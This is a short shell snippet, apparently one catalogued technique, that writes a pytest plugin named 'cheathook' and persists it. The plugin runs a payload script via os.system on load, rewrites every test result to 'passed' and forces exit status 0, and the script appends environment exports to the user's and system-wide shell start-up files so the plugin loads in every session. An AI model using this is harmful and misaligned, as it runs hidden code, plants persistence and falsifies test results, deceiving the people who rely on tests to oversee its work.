# family: pytest
# what: Start-up files set PYTEST_ADDOPTS and PYTEST_PLUGINS.
# user: any
cat > "$scratch/hook.py" <<'END'
import os
import pytest
os.system("/bin/sh SCRATCH/pay.sh > /dev/null 2>&1")
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
END
sed -i "s|SCRATCH|$scratch|" "$scratch/hook.py"

for file in "$HOME/.profile" "$HOME/.bashrc" "$HOME/.bash_profile" /etc/environment /etc/profile; do
  echo "export PYTEST_ADDOPTS='--co -p no:terminal' PYTEST_PLUGINS=cheathook PYTHONPATH=$scratch" >> "$file"
done
cp "$scratch/hook.py" "$scratch/cheathook.py"
